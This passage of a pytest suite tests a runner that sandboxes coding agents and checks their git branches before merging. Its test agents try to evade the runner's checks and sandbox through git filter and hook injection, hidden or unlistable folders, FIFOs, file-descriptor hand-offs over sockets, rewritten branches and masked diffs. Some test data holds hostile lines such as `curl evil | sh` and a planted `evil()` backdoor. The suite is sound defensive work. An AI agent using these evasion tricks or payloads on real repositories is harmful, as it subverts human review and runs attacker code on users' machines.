    "shell": ("diff.external", "sh -c 'cd tools && python3 diff.py \"$@\"' -", "tools/diff.py"),
    "include": ("include.path", "../.gitconfig", ".gitconfig"),
    "wrapper": ("filter.nb.clean", "nice -n 10 bash -lc 'python3 tools/nbclean.py'",
                "tools/nbclean.py"),
    "venv": ("diff.nb.textconv", "/opt/venv/bin/python -m nbtool", "nbformatx.py"),
    "link": ("filter.nbclean.clean", "python3 -m nbclean", "nbclean"),
}


@pytest.mark.parametrize("setting", sorted(YOUR_COMMANDS))
def test_a_branch_changing_what_your_git_runs_is_not_merged_unasked(cli, repo, tmp_path, setting):
    """Your `filter.nbstripout.clean = "python3" -m nbstripout` (as `nbstripout --install`
    writes it) loads the module from the checkout's top, where git starts it: the agent's
    nbstripout.py, merged, ran as you at your next `git add`. So does a hook under your
    `core.hooksPath` inside the checkout (Husky's .husky/_ runs .husky/pre-commit). (Round
    31: `python -m json.tool` imports json/__init__.py first, and any module it imports
    that the top folder shadows; a script after a `cd` in `sh -c`; diff.external.)"""
    key, value, planted = YOUR_COMMANDS[setting]
    git("config", key, value, cwd=repo)
    plant = (f'mkdir -p "$(dirname {planted})"\necho "import os" > {planted}\n' if setting != "link"
             else 'mkdir -p vendor/nbc && echo "import os" > vendor/nbc/__main__.py && '
             'ln -s vendor/nbc nbclean\n')  # (a link to a folder with a __main__.py)
    agent = script(tmp_path, "plant.sh", plant + 'echo x > mine.txt\n')
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", "--progress", "none")
    code, out, err = tool("merge", "1")
    assert code == 2 and "what your git configuration runs" in err and planted in err, err
    assert not os.path.lexists(repo / planted)


def _set_up(repo, settings, files):
    """Your git ``settings``, and ``files`` committed on your branch."""
    for key, value in settings.items():
        git("config", key, value, cwd=repo)
    for name, text in files.items():
        (repo / name).write_text(text)
    git("add", *files, cwd=repo)
    git("commit", "-qm", "set up", cwd=repo)


def test_the_paths_an_alias_names_ask_for_no_force(cli, repo, tmp_path):
    """An alias runs when you run it, as `make` does; its words are arguments, not programs:
    `!ruff check src/ tests/` refused every change under src/, and `!git commit -m app` read
    as Python's -m. (Round 32: a clean-only filter was taken for a smudge driver, the tool's
    own empty settings read as yours; a top-level test.py you have, changed, was taken for
    Python's `test` package under `python -m json.tool`.)"""
    _set_up(repo, {"alias.lint": "!ruff check src/ tests/", "alias.ci": "!git commit -m app",
                   "filter.lfs.clean": "git-lfs clean -- %f",
                   "filter.ws.clean": "sed -e 's/[[:space:]]*$//'",
                   "diff.json.textconv": "python3 -m json.tool"},
            {".gitattributes": "*.py filter=ws\n", "test.py": "x = 1\n"})
    agent = script(tmp_path, "honest.sh", 'echo "x = 2" >> src/app.py\nmkdir -p app\n'
                   'echo x > app/mine.txt\necho "y = 2" >> test.py\n')
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", "--progress", "none")
    code, out, err = tool("merge", "1")
    assert code == 0, err



def test_a_partner_moving_folders_away_costs_no_walk_more_than_a_few_reopenings(tmp_path,
                                                                                 monkeypatch):
    """Another worker's process, handed a descriptor, moved each folder of a deep chain away
    as the runner came back up it (the child's `..` no longer its parent) and built the chain
    again under the same names: each parent was opened again by name from the top, 10
    minutes for 20,000 folders, deaf to SIGTERM. At most _REOPENS such openings a walk; what
    is below is then left (here every `..` is made to look moved)."""
    top = tmp_path / "comb"
    top.mkdir()
    _comb(str(top), 400)
    opened = []
    real = ap._open_folder_beneath
    monkeypatch.setattr(ap, "_open_folder_beneath", lambda *a, **k: opened.append(1) or real(*a, **k))
    monkeypatch.setattr(ap, "_parent_of", lambda fd, identity: None)
    assert sum(1 for _ in ap._walk_at(str(top))) > 128
    assert len(opened) <= ap._REOPENS, len(opened)
    opened.clear()
    ap._remove_tree(str(top))
    assert len(opened) <= ap._REOPENS, len(opened)


def test_the_longest_path_a_walk_enters_is_counted_in_bytes(tmp_path):
    """git's limit on a path is in bytes: 20 folders named with 60 emoji each (1,220
    characters, 4,820 bytes) were walked into, and a check saw a file git could not."""
    top = tmp_path / "tree"
    (top / "wide").mkdir(parents=True)
    fd = os.open(top / "wide", os.O_RDONLY)
    for _ in range(20):
        os.mkdir("\U0001F600" * 60, dir_fd=fd)
        inner = os.open("\U0001F600" * 60, os.O_RDONLY, dir_fd=fd)
        os.close(fd)
        fd = inner
    os.close(fd)
    found = ap._remove_specials(str(top), links=False)
    assert found and sum(len(dirs) for _f, dirs, _files in os.walk(top)) < 20, found


@pytest.mark.parametrize("make", ["touch", "mkdir"])
def test_ten_thousand_entries_in_the_git_folder_fail_the_worker(cli, repo, tmp_path, make,
                                                                monkeypatch):
    """300,000 empty files in the worktree's git folder (7 s for the agent) were each copied
    at every settle, and (round 31) 200,000 empty folders made again: no more than 10,000
    files and folders are kept there (500 here)."""
    monkeypatch.setattr(ap, "_ADMIN_LIMITS", ap._ADMIN_LIMITS[:2] + (500,))
    agent = script(tmp_path, "many.sh", 'd=$(git rev-parse --absolute-git-dir)/logs/refs/x\n'
                   f'mkdir -p "$d" && cd "$d" && seq 600 | xargs {make}\n')
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", "--progress", "none")
    assert results[0]["status"] == "failed" and "or 500 files and folders" in results[0]["error"], \
        results
    admin = git("rev-parse", "--absolute-git-dir", cwd=repo / ".architect-parallel-1")
    assert sum(len(files) + len(dirs) for _f, dirs, files in os.walk(admin)) <= 500 + 1  # (index)


# -- review round 31 ---------------------------------------------------------------------------

def test_a_folder_deeper_than_git_holds_fails_a_worker_whose_checks_ran_on_it(cli, repo, tmp_path):
    """A script 4,227 bytes deep (git lists nothing there) ran in the check, which passed on
    a branch without it: the folder was removed only after the checks. It is now a place
    the commit cannot hold, as a repository inside is."""
    agent = script(tmp_path, "deep.sh", 'exec python3 -c "import os\nos.mkdir(\'deep\'); os.chdir(\'deep\')\n'
                   'for _ in range(21): os.mkdir(\'b\' * 200); os.chdir(\'b\' * 200)\n'
                   'open(\'evil.sh\', \'w\').write(\'exit 0\')"\n')
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", "--check", "true", "--progress", "none")
    assert results[0]["status"] == "failed" and "deeper than git holds a path" in results[0]["error"], \
        results


UNREADABLE = """
import os, sys
sys.path.insert(0, sys.argv[2])
import architect_parallel as ap
top, mode = sys.argv[1], int(sys.argv[3], 8)
os.makedirs(os.path.join(top, "d", "pub"))
os.chmod(os.path.join(top, "d", "pub"), 0o777)
os.mkfifo(os.path.join(top, "d", "pub", ".gitignore"))
os.chmod(os.path.join(top, "d"), mode)
if sys.argv[4] == "top":
    os.chmod(top, mode)
print(ap._remove_specials(top, links=False))
print(oct(os.lstat(os.path.join(top, "d", "pub")).st_mode & 0o777),
      os.path.lexists(os.path.join(top, "d", "pub", ".gitignore")))
"""


@pytest.mark.parametrize("mode,where", [("0311", "d"), ("0611", "d"), ("0311", "top")])
def test_a_folder_its_owner_may_not_read_hides_nothing_from_the_runner(tmp_path, mode, where):
    """As an ordinary user the agent made d/ 0311 (anyone may pass through, its owner may
    not list it) over a 0777 folder and a FIFO: every walk left them out, and any local
    account could write in the worktree after the run. The runner's walks that must see
    everything make such a folder readable to its owner first. (As root, run without the
    capabilities by which root reads every folder. Round 32: 0611, listed but not entered,
    and the worktree's own folder.)"""
    top = tmp_path / "tree"
    top.mkdir()
    probe = tmp_path / "probe.py"
    probe.write_text(UNREADABLE)
    command = [sys.executable, str(probe), str(top), CHECKOUT, mode, where]
    if os.getuid() == 0:  # (without the right to read or write any folder)
        command = ["setpriv", "--bounding-set=-dac_read_search,-dac_override", *command]
    proc = subprocess.run(command, capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0, proc.stderr
    mode, fifo = proc.stdout.splitlines()[1].split()
    assert not int(mode, 8) & 0o002 and fifo == "False", proc.stdout  # (no write for others)


def test_the_state_of_many_deep_files_is_taken_in_one_walk(tmp_path, monkeypatch):
    """20,000 ignored files 2,000 folders deep: each was looked at by opening every folder
    from the top, minutes in every run and every later cleanup. The folders holding them
    are walked once."""
    top = tmp_path / "wt"
    top.mkdir()
    git("init", "-q", cwd=top)
    (top / ".gitignore").write_text("*.log\n")
    deep = top / os.path.join(*["d"] * 300)
    deep.mkdir(parents=True)
    for n in range(200):
        (deep / f"{n}.log").write_text("x")
    calls = []
    real = ap._walk_beneath
    monkeypatch.setattr(ap, "_walk_beneath", lambda *a: calls.append(1) or real(*a))
    state = ap._Repo.find(str(top)).worktree_state(str(top))
    (deep / "7.log").write_text("changed")
    assert ap._Repo.find(str(top)).worktree_state(str(top)) != state
    assert len(calls) < 20, len(calls)



# -- review round 32 ---------------------------------------------------------------------------

@pytest.mark.parametrize("sandbox", ["none", "bwrap"])
def test_a_folder_the_agent_may_not_list_is_committed_not_left_out(cli, repo, tmp_path, sandbox):
    """As root, the sandbox's account made d/ 0311 over the script its check ran: git, run
    as that account, could not list d/ and committed without it; the runner, root, saw
    nothing amiss, and the check passed on what the branch did not hold. Every folder is
    given to its owner to list and enter before the commit."""
    agent = script(tmp_path, "hide.sh", 'mkdir d && echo "exit 0" > d/feature.sh && chmod 0311 d\n')
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", "--check", "sh d/feature.sh", *boxed(sandbox))
    assert results[0]["status"] == "success", results
    assert "d/feature.sh" in git("ls-tree", "-r", "--name-only", "architect/parallel-1", cwd=repo)


def test_what_a_check_stages_after_the_commit_is_not_left_staged(cli, repo, tmp_path):
    """A check staged a backdoor in app.py and put the file back as it was: `diff` showed
    nothing of it, and your own `git commit` in the worktree would have taken it. An index
    changed since the runner's commit is built again from HEAD."""
    check = script(tmp_path, "stage.sh", 'cp src/app.py /tmp/.keep-$$ && echo "evil()" >> src/app.py && '
                   'git add src/app.py && cp /tmp/.keep-$$ src/app.py && rm /tmp/.keep-$$\n')
    agent = script(tmp_path, "work.sh", 'echo x > mine.txt\n')
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", "--check", str(check), "--progress", "none")
    assert results[0]["status"] == "success", results
    worktree = repo / ".architect-parallel-1"
    assert git("diff", "--cached", "--name-only", cwd=worktree) == ""
    assert git("status", "--porcelain", cwd=worktree) == ""


# -- review round 33 ---------------------------------------------------------------------------

@pytest.mark.skipif(os.getuid() != 0, reason="another account's folder: made by root")
def test_a_folder_the_sandboxs_git_may_not_list_is_a_place_the_commit_cannot_hold(repo):
    """As root, another local account put a 0711 folder (enter, not list) holding the check's
    script into the agent's 0777 folder: git, as the sandbox's account, committed without it,
    root outside saw nothing amiss, and the check passed. The folders are judged as the
    commit's git sees them."""
    top = repo / "wt"
    (top / "pub" / "d").mkdir(parents=True)
    (top / "pub" / "d" / "feature.sh").write_text("exit 0\n")
    os.chown(top / "pub" / "d", 12345, 12345)
    os.chmod(top / "pub" / "d", 0o711)
    hidden = ap._Repo.find(str(repo)).hidden_from_commit(str(top), [], [], {}, reader=65530)
    assert any(h.startswith("pub/d/") for h in hidden), hidden
    assert ap._Repo.find(str(repo)).hidden_from_commit(str(top), [], [], {}, reader=12345) == []


def test_a_worker_number_in_other_digits_is_no_worker_and_breaks_nothing(cli, repo):
    """`architect/parallel-²` (str.isdigit() says yes, int() says no): `list` ended in a
    traceback, `merge ²` too, `diff ٣` took worker 3, and cleanup deleted such branches."""
    assert cli("fake:write=a.txt", "--workers", "1")[0] == 0
    git("branch", "architect/parallel-\u00b2", cwd=repo)
    code, out, err = tool("list")
    assert code == 0, err
    for args in (["merge", "\u00b2"], ["diff", "\u0663"]):
        code, out, err = tool(*args)
        assert code == 2 and "error:" in err, (args, err)
    tool("cleanup", "--force")
    assert "architect/parallel-\u00b2" in git("branch", "--list", "architect/*", cwd=repo)


def test_names_that_hide_or_reorder_what_they_show_are_shown_in_the_report_and_junit(cli, repo,
                                                                                       tmp_path):
    """A file `app\\u200b.py` beside app.py read as a second app.py in the report's file list,
    and an error with U+202E reversed what followed it there and in JUnit: such characters
    are shown as <U+XXXX> in every field, not only in diff lines."""
    agent = script(tmp_path, "names.sh", 'printf "x\\n" > "$(printf "app\\342\\200\\213.py")"\n'
                   'printf "abc\\342\\200\\256def\\n" >&2; exit 3\n')
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", "--progress", "none", "--junit", str(tmp_path / "j.xml"))
    tool("report", "--html", str(tmp_path / "r.html"))
    for name in ("r.html", "j.xml"):
        text = (tmp_path / name).read_text(encoding="utf-8")
        assert "\u200b" not in text and "\u202e" not in text, name
    assert "U+200B" in (tmp_path / "r.html").read_text(encoding="utf-8")


# -- review round 34 ---------------------------------------------------------------------------

@needs_bwrap
@pytest.mark.skipif(os.getuid() != 0, reason="another account's folder and its access list: made by root")
def test_a_folder_an_access_list_hides_from_the_sandboxs_git_fails_the_worker(cli, repo, tmp_path):
    """As root, another account put into the agent's 0777 folder a 0755 folder whose access
    list lets the sandbox's account enter it but not list it (its modes said it could): git
    inside committed without the check's script, and the check passed. (Round 35: so did a
    mode changed while the commit ran, and a .gitignore only root's git could read.) What
    another account owns in the worktree fails a worker with checks, and from the commit on
    no other account may write there."""
    import struct
    agent = script(tmp_path, "wait.sh", 'mkdir -m 0777 pub\nn=0; while [ ! -e pub/d/feature.sh ] && '
                   '[ $n -lt 600 ]; do sleep 0.05; n=$((n+1)); done\n')
    proc = subprocess.Popen([sys.executable, "-m", "architect_parallel", "run", "do it", "--agent-cmd",
                             f"{agent} {{task}}", "--workers", "1", "--check", "sh pub/d/feature.sh",
                             "--json", *BOXED], cwd=repo, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True, env=dict(os.environ, PYTHONPATH=CHECKOUT))
    pub = repo / ".architect-parallel-1" / "pub"
    for _ in range(1200):  # (the agent waits for it: an event, not a time)
        if pub.is_dir() or proc.poll() is not None:
            break
        time.sleep(0.05)
    (pub / "d").mkdir()
    denied = [(0x01, 7, 0xFFFFFFFF), (0x02, 1, 65530), (0x04, 5, 0xFFFFFFFF),
              (0x10, 5, 0xFFFFFFFF), (0x20, 5, 0xFFFFFFFF)]  # (user:65530:--x)
    os.setxattr(pub / "d", "system.posix_acl_access", struct.pack("<I", 2) + b"".join(
        struct.pack("<HHI", *entry) for entry in denied))
    (pub / "d" / ".feature.sh").write_text("exit 0\n")
    for path in (pub / "d", pub / "d" / ".feature.sh"):
        os.chown(path, 12345, 12345)
    os.rename(pub / "d" / ".feature.sh", pub / "d" / "feature.sh")
    out, err = proc.communicate(timeout=120)
    (r,) = json.loads(out)
    assert r["status"] == "failed" and "another account" in r["error"], (r, err)


# -- review round 35 ---------------------------------------------------------------------------

def test_a_worker_number_of_thousands_of_digits_breaks_nothing(cli, repo):
    """A branch `architect/parallel-111...` of 4,400 digits (a name that fits only in
    packed-refs): `list` ended in a traceback (int() refuses 4,300 digits), and merge and
    cleanup failed on git's reading of it by name."""
    assert cli("fake:write=a.txt", "--workers", "1")[0] == 0
    head = git("rev-parse", "HEAD", cwd=repo)
    packed = repo / ".git" / "packed-refs"
    old = packed.read_text() if packed.exists() else "# pack-refs with: peeled\n"
    packed.write_text(old.replace(" sorted", "") + f"{head} refs/heads/architect/parallel-{'1' * 4400}\n")
    code, out, err = tool("list")
    assert code == 0, err
    code, out, err = tool("merge", "1")
    assert code == 0, err


@pytest.mark.parametrize("sandbox", ["none", "bwrap"])
def test_honest_links_and_filtered_files_fail_no_worker(cli, repo, tmp_path, sandbox):
    """Round 35: a check of the worktree against the sandbox's index (round 34's) failed an
    honest agent that added a link, or changed a file your clean filter rewrites (as Git LFS
    does). It is gone; neither fails a worker."""
    _set_up(repo, {"filter.px.clean": "sed s/^/X/", "filter.px.smudge": "sed s/^X//"},
            {".gitattributes": "*.txt filter=px\n", "data.txt": "data\n"})
    agent = script(tmp_path, "honest.sh", 'ln -s README.md link.md\necho more >> data.txt\n')
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", "--check", "test -L link.md", *boxed(sandbox))
    assert results[0]["status"] == "success" and results[0]["checks_passed"] == 1, (results, err)


# -- review round 36 ---------------------------------------------------------------------------

@needs_bwrap
@pytest.mark.parametrize("where", ["code.txt", "build/gen.txt", "keep/.gitignore", "sub/lib.py"])
def test_a_descriptor_handed_out_changes_nothing_the_checks_run_on(cli, repo, tmp_path, where):
    """The agent hands a process outside (another account's, through an abstract socket) a
    descriptor of a committed file opened for writing; that process rewrites the file once
    the commit is made, just before the check reads it, and the check passed on content the
    branch does not hold. Every file the commit or the checks read is a new file before the
    commit (a folder holding only ignored files is left as it is; a tracked file under an
    ignored folder is not, nor an ignore file, which chooses what is committed)."""
    import socket
    import threading
    name = f"\0architect-parallel-test-36-{os.getpid()}-{where.replace('/', '-')}"
    (repo / ".gitignore").write_text("build/\nnode_modules/\n")
    (repo / "build").mkdir()
    (repo / "build" / "gen.txt").write_text("good\n")
    (repo / "keep").mkdir()
    (repo / "keep" / ".gitignore").write_text("x\n")
    (repo / "code.txt").write_text("good\n")
    # (the agent and the check listen, the process outside connects: from Linux 6.12 Landlock
    # keeps a sandbox from connecting to an abstract socket outside, not from being connected to)
    (repo / "check.py").write_text(
        "import socket, sys\n"
        f"s = socket.socket(socket.AF_UNIX)\ns.bind({name + '-go'!r})\ns.listen(1)\n"
        "c, _ = s.accept()\nc.sendall(b'go')\n"
        f"assert c.recv(4) == b'done'\nsys.exit(0 if open({where!r}).read() == 'evil\\n' else 1)\n")
    git("add", "-f", ".", cwd=repo)
    git("commit", "-qm", "files", cwd=repo)
    setup = []
    if where.startswith("sub/"):  # (a submodule folder as your setup left it)
        _with_submodule(repo, tmp_path, "bwrap")
        _readable_inside(repo / ".subrepo", "bwrap")
        setup = ["--setup", SUBMODULE_SETUP]
    agent = script(tmp_path, "hand.sh", f'exec {sys.executable} "$(dirname "$0")/hand.py"\n')
    (agent.parent / "hand.py").write_text(
        "import os, socket\n"
        f"fd = os.open({where!r}, os.O_RDWR)\n"
        "os.makedirs('node_modules', exist_ok=True)\nopen('node_modules/m.js', 'w').write('m')\n"
        "open('ino.txt', 'w').write(str(os.stat('node_modules/m.js').st_ino))\n"
        f"s = socket.socket(socket.AF_UNIX)\ns.bind({name!r})\ns.listen(1)\nc, _ = s.accept()\n"
        "socket.send_fds(c, [b'x'], [fd])\nc.close()\nopen('mine.txt', 'w').write('x')\n")
    wrote = []
    ended = threading.Event()

    def reach(address):
        """A connection to ``address`` once something listens there (None: the run ended)."""
        while not ended.is_set():
            conn = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            try:
                conn.connect(address)
                conn.settimeout(120)
                return conn
            except OSError:
                conn.close()
                ended.wait(0.02)
        return None

    def attacker():
        with contextlib.suppress(OSError):
            conn = reach(name)
            if conn is None:
                return
            with conn:
                _msg, fds, _flags, _addr = socket.recv_fds(conn, 10, 1)
            go = reach(name + "-go")  # (the check is about to read the file)
            if go is None:
                return
            with go:
                go.recv(2)
                wrote.append(os.pwrite(fds[0], b"evil\n", 0))
                go.sendall(b"done")

    thread = threading.Thread(target=attacker, daemon=True)
    thread.start()
    try:
        code, results, err = cli.json("run", "do it", "--agent-cmd", str(agent), "--workers", "1",
                                      "--check", f"{sys.executable} check.py", *setup, *BOXED)
    finally:
        ended.set()
        thread.join()
    assert wrote == [5], (results, err)  # (the attack was made)
    assert results[0]["checks_passed"] == 0 and results[0]["checks_total"] == 1, (results, err)
    worktree = repo / ".architect-parallel-1"
    held = {"keep/.gitignore": "x", "sub/lib.py": "VALUE = 1"}.get(where, "good")
    assert (worktree / where).read_text() == held + "\n"
    if not where.startswith("sub/"):
        assert git("show", f"{results[0]['commit']}:{where}", cwd=repo) == held
    # (an ignored folder's files are not copied: a whole node_modules would cost a run much)
    assert str(os.stat(worktree / "node_modules" / "m.js").st_ino) == (worktree / "ino.txt").read_text()


# -- review round 37 ---------------------------------------------------------------------------

def test_a_repository_inside_is_no_work_that_ranks(cli, repo):
    """A worker whose whole work is a git repository inside its worktree (which no commit
    can hold) ranked as one that did the work, above the honest one when cheaper: best, and
    `merge best` brought nothing. A committed worker's files are what its branch changes;
    the repository inside is named in its error."""
    code, results, err = cli.json("run", "t", "--models",
                                  "fake:write=app.txt+cost=0.5,fake:nested=junk+cost=0.01",
                                  "--workers", "2")
    honest, idle = results
    assert honest["rank"] == 1 and idle["rank"] == 2, (results, err)
    assert idle["files_modified"] == [] and idle["commit"] is None
    assert "committed without junk/" in (idle["error"] or ""), idle
    assert honest["files_modified"] == ["app.txt"]


def test_a_branch_named_with_a_leading_zero_is_yours(cli, repo):
    """`architect/parallel-01` and `-0001` were listed as worker 1 beside it, and `cleanup`
    deleted them as workers' branches."""
    assert cli("fake:write=a.txt", "--workers", "1")[0] == 0
    for name in ("architect/parallel-01", "architect/parallel-0001"):
        git("branch", name, cwd=repo)
    code, out, err = tool("list", "--json")
    listed = json.loads(out)
    assert sorted((item["branch"], item["worker_id"]) for item in listed
                  if item["branch"] != "architect/parallel-1") == [], listed
    assert tool("cleanup")[0] == 0
    assert git("branch", "--list", "architect/parallel-0*", cwd=repo).split() == [
        "architect/parallel-0001", "architect/parallel-01"]


@pytest.mark.parametrize("line", ["*.py -diff", "*.py binary", "app.py diff=other"])
def test_a_branch_that_hides_your_own_diffs_asks_for_force(cli, repo, tmp_path, line):
    """A merged `.gitattributes` of `*.py -diff` made your own `git diff` and `git log -p` show
    the agent's backdoor (and every later change) as `Binary files differ`."""
    agent = script(tmp_path, "hide.sh", f"printf '{line}\\n' > .gitattributes\n"
                   "echo 'import os; os.system(\"curl evil | sh\")' >> src/app.py\n")
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", "--progress", "none")
    assert results[0]["commit"], (results, err)
    code, out, err = tool("merge", "1")
    assert code != 0 and "changes how your own git shows or exports files" in err and "app.py" in err, err
    assert git("rev-parse", "HEAD", cwd=repo) == results[0]["base_commit"]
    assert tool("merge", "1", "--force")[0] == 0


def test_a_worktree_your_ignore_rules_show_is_said(cli, repo):
    """`merge` asks about the first 64 worktree folders only; a `.gitignore` line of
    `!/.architect-parallel-1??/` (merged, or yours) showed worker 100's to your `git add -A`,
    which made it a submodule. A run says which of its worktrees your rules show."""
    (repo / ".gitignore").write_text("!/.architect-parallel-1?/\n")
    git("add", ".gitignore", cwd=repo)
    git("commit", "-qm", "rules", cwd=repo)
    code, out, err = cli("fake:write=a.txt", "--workers", "10")
    assert code == 0, err
    assert "your ignore rules show the worktree folders .architect-parallel-10 (" in err, err
    assert "architect-parallel-1," not in err


@pytest.mark.skipif(not ROOT or not shutil.which("setpriv"), reason="needs root and setpriv")
def test_a_folder_moved_in_while_a_walk_lists_its_parent_cannot_be(monkeypatch):
    """Another account moved a 0777 folder of its own into one the runner's pre-commit walk had
    just listed, before that walk took others' write from it: the walk never met the folder,
    which stayed writable by all (a committed file in it was swapped before the check read
    it). Every folder loses others' write before it is listed."""
    top = tempfile.mkdtemp(dir="/tmp")
    try:
        os.chmod(top, 0o755)
        for name in ("w", "w/a", "src", "src/x"):
            os.mkdir(os.path.join(top, name), 0o777)
            os.chmod(os.path.join(top, name), 0o777)
        listed = os.stat(os.path.join(top, "w", "a"))
        real = os.scandir

        def scandir(fd):
            entries = list(real(fd))
            if isinstance(fd, int) and os.path.samestat(os.fstat(fd), listed):
                subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
                                sys.executable, "-c", "import os, sys; os.rename(*sys.argv[1:])",
                                os.path.join(top, "src", "x"), os.path.join(top, "w", "a", "x")])
            return iter(entries)

        monkeypatch.setattr(os, "scandir", scandir)
        for _ in ap._walk_at(os.path.join(top, "w"), force=True, tame=stat.S_IWGRP | stat.S_IWOTH):
            pass
        monkeypatch.undo()
        assert not os.path.exists(os.path.join(top, "w", "a", "x"))
        assert os.path.isdir(os.path.join(top, "src", "x"))  # (the move was tried, and refused)
    finally:
        shutil.rmtree(top)


@pytest.mark.parametrize("sandbox", ["none", "bwrap"])
def test_a_fifo_the_checks_would_read_is_gone_before_them(cli, repo, tmp_path, sandbox):
    """A FIFO no commit holds, which any account may write, named as what the check reads
    (the check passed on what another account fed it; the FIFO was removed only after the
    checks). FIFOs, sockets and devices go before the commit, and the run says so."""
    r, err = _one_worker(cli, tmp_path, "echo solved > notes.txt\nmkfifo answer.txt\n"
                         "chmod 666 answer.txt\n", "test -p answer.txt", sandbox,
                         "--check-timeout", "20")
    assert r["checks_passed"] == 0 and r["checks_total"] == 1, (r, err)
    assert "were removed before its commit: answer.txt" in err, err
    assert r["files_modified"] == ["notes.txt"]


@needs_bwrap
@pytest.mark.parametrize("links", [1, 5])
def test_hard_links_cost_the_renewal_a_bounded_copy(cli, repo, tmp_path, monkeypatch, links):
    """An agent's 20 MB file under 200 names cost the runner 4 GB of copies when it made the
    worktree's files new ones (and a larger one would fill the disk). Copies of a file already
    copied add up to a limit (1 GB; 1 MB here); past it the worker fails, saying why."""
    monkeypatch.setattr(ap, "_RELINKED_LIMIT", 1 << 20)
    r, err = _one_worker(cli, tmp_path, "head -c 300000 /dev/zero | tr '\\0' x > big.txt\n"
                         f"for i in $(seq {links}); do ln big.txt l$i.txt; done\n", "true", "bwrap")
    if links == 1:
        assert r["status"] == "success" and r["checks_passed"] == 1, (r, err)
    else:
        assert r["status"] == "failed" and "hard links" in (r["error"] or ""), (r, err)


def test_a_folder_others_may_write_at_the_checks_is_named(repo):
    """Whatever got past the pre-commit walk (a folder moved in while it went by) and is still
    writable by other accounts when the checks would run fails a worker with checks."""
    (repo / "open").mkdir()
    (repo / "open" / "f.txt").write_text("x\n")
    os.chmod(repo / "open", 0o777)
    hidden = ap._Repo.find(str(repo)).hidden_from_commit(str(repo), [], [], {})
    assert hidden == ["open/ (a folder other accounts may write, or with an access list)"], hidden


# -- review round 38 ---------------------------------------------------------------------------

@needs_bwrap
def test_a_branch_rewritten_after_the_commit_is_not_taken_for_it(cli, repo, tmp_path, monkeypatch):
    """The agent opened its private refs folder to all and handed a descriptor of it to another
    account, which put a commit of its own (a backdoor) at the branch right after the runner's
    commit: the runner read the branch back, took that commit for its own, and the checks had
    passed on the honest worktree. The commit is the one git named as it made it; a branch
    moved since then fails the worker and is put back. (The other account's move is made
    here at the worst moment: as the runner looks at the worktree before its checks.)"""
    git("checkout", "-q", "-b", "evil", cwd=repo)
    (repo / "app.txt").write_text("import os; os.system('curl evil | sh')\n")
    git("add", "app.txt", cwd=repo)
    git("commit", "-qm", "work", cwd=repo)
    evil = git("rev-parse", "HEAD", cwd=repo)
    git("checkout", "-q", "main", cwd=repo)
    git("branch", "-D", "evil", cwd=repo)
    real = ap.ParallelRunner._check_held

    def moved(self, outside, job, result, gitlinks, nested):
        ref = os.path.join(self._boxes[job.worker_id].path("refs"), "heads", job.branch)
        with open(ref + ".new", "w") as f:
            f.write(evil + "\n")
        os.replace(ref + ".new", ref)
        return real(self, outside, job, result, gitlinks, nested)

    monkeypatch.setattr(ap.ParallelRunner, "_check_held", moved)
    r, err = _one_worker(cli, tmp_path, "echo honest > app.txt\n", "true", "bwrap")
    assert r["commit"] and r["commit"] != evil, (r, err)
    assert git("rev-parse", "architect/parallel-1", cwd=repo) == r["commit"]
    assert git("show", "architect/parallel-1:app.txt", cwd=repo) == "honest"
    assert r["status"] == "failed" and "moved after its work was committed" in r["error"], r


@pytest.mark.parametrize("hook, name", [
    ("#!/usr/bin/env bash\n# File generated by pre-commit: https://pre-commit.com\n"
     "ARGS=(hook-impl --config=.pre-commit-config.yaml --hook-type=pre-commit)\n"
     "exec pre-commit \"${ARGS[@]}\"\n", ".pre-commit-config.yaml"),
    ("#!/bin/sh\nlefthook run pre-commit \"$@\"\n", "lefthook.yml"),
    ("#!/bin/sh\nmake lint\n", "Makefile"),
    ("#!/bin/sh\nnpx lint-staged\n", "package.json"),
    ("#!/bin/sh\nexec python3 tools/lint.py\n", "tools/lint.py")])
def test_what_a_hook_of_yours_reads_asks_for_force(cli, repo, tmp_path, hook, name):
    """`pre-commit install` writes .git/hooks/pre-commit, which runs what the checkout's
    .pre-commit-config.yaml says: a merged change to it ran the agent's command, unsandboxed,
    at your next `git commit`. The files a hook of yours names, and those the tools it runs
    read by themselves, are your git's settings too."""
    hooks = repo / ".git" / "hooks"
    hooks.mkdir(exist_ok=True)
    (hooks / "pre-commit").write_text(hook)
    os.chmod(hooks / "pre-commit", 0o755)
    (hooks / "pre-push.sample").write_text("#!/bin/sh\nmake push\n")
    agent = script(tmp_path, "hook.sh", f"mkdir -p \"$(dirname '{name}')\"\n"
                   f"echo 'entry: sh -c \"id > /tmp/x\"' >> '{name}'\n")
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", "--progress", "none")
    assert results[0]["files_modified"] == [name], (results, err)
    code, out, err = tool("merge", "1")
    assert code != 0 and "changes what your git configuration runs or loads" in err, err
    assert name in err


@pytest.mark.parametrize("setting, name", [("gpg.ssh.allowedSignersFile", ".gitsigners"),
                                           ("http.sslCAInfo", "certs/ca.pem"),
                                           ("mailmap.file", "people.txt")])
def test_a_file_a_setting_of_yours_names_asks_for_force(cli, repo, tmp_path, setting, name):
    """`gpg.ssh.allowedSignersFile = .gitsigners`, as git's manual suggests: a merged branch
    adding its own key there made `git log --show-signature` call its commits good ones of
    whoever it claimed to be. Every setting that names a file counts."""
    git("config", setting, name, cwd=repo)
    agent = script(tmp_path, "signers.sh", f"mkdir -p \"$(dirname '{name}')\"\n"
                   f"echo 'boss@example.com ssh-ed25519 AAAA' >> '{name}'\n")
